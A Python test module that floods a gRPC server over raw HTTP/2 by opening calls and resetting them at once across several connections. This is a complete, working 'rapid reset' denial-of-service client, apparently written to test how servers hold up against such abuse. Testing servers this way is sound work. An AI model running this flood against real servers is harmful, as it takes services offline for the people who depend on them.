"""HTTP/2 clients that open calls and reset them at once, as fast as the connections accept them.

 python -m testing.rapid_resets HOST:PORT /SERVICE/METHOD NUM_CONNECTIONS NUM_CALLS

A client library would wait when the server limits concurrent calls. These clients do not wait.
"""

import asyncio
import contextlib
import struct
import sys

CHECK = "/grpc.health.v1.Health/Check"
_TIMEOUT_S = 60.0
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING = 0x0, 0x1, 0x3, 0x4, 0x6
_ACK, _END_STREAM, _END_HEADERS = 0x1, 0x1, 0x4
_FRAME_HEAD = struct.Struct(">BHBBI")  # length in 24 bits, kind, flags, stream id
_CANCEL = struct.pack(">I", 8)
_EMPTY_MESSAGE = bytes(5)  # a gRPC message: uncompressed, zero bytes
_NUM_IN_WRITE = 512


def _frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return _FRAME_HEAD.pack(len(payload) >> 16, len(payload) & 0xFFFF, kind, flags, stream_id) + payload


def _literal(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


def _headers(path: str) -> bytes:
    """Return the headers of a call in HPACK, without a dynamic table and without Huffman coding."""
    by_index = b"\x83\x86"  # :method POST, :scheme http
    by_indexed_name = b"\x04" + _literal(path) + b"\x01" + _literal("localhost")
    fields = {"content-type": "application/grpc", "te": "trailers"}
    return by_index + by_indexed_name + b"".join(b"\0" + _literal(name) + _literal(fields[name]) for name in fields)


def _calls(first_id: int, number: int, headers: bytes) -> bytes:
    return b"".join(
        _frame(_HEADERS, _END_HEADERS, stream_id, headers)
        + _frame(_DATA, _END_STREAM, stream_id, _EMPTY_MESSAGE)
        + _frame(_RST_STREAM, 0, stream_id, _CANCEL)
        for stream_id in range(first_id, first_id + 2 * number, 2)
    )


async def _answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Answer the frames that keep a connection alive and ignore all others, until the server closes the connection."""
    with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
        while True:
            head = _FRAME_HEAD.unpack(await reader.readexactly(_FRAME_HEAD.size))
            payload = await reader.readexactly((head[0] << 16) + head[1])
            kind, flags = head[2:4]
            if kind in (_SETTINGS, _PING) and not flags & _ACK:
                writer.write(_frame(kind, _ACK, 0, payload if kind == _PING else b""))


async def _flood_connection(address: str, headers: bytes, num_calls: int) -> int:
    """Open and reset calls on one connection. Return the number of opened calls.

    The number is smaller than `num_calls` if the server closes the connection.
    """
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    answering = asyncio.create_task(_answer(reader, writer))
    num_opened = 0
    try:
        writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
        while num_opened < num_calls and not answering.done():
            writer.write(_calls(2 * num_opened + 1, _NUM_IN_WRITE, headers))
            await writer.drain()
            num_opened += _NUM_IN_WRITE
    except ConnectionError:
        pass
    finally:
        answering.cancel()
        writer.close()
    return num_opened


async def flood(address: str, path: str, num_connections: int, num_calls: int) -> int:
    """Open and reset calls on several connections. Return the number of opened calls."""
    async with asyncio.timeout(_TIMEOUT_S):
        share = num_calls // num_connections
        opened = await asyncio.gather(
            *(_flood_connection(address, _headers(path), share) for _ in range(num_connections))
        )
    return sum(opened)


if __name__ == "__main__":
    address, path, num_connections, num_calls = sys.argv[1:]
    print(asyncio.run(flood(address, path, int(num_connections), int(num_calls))))
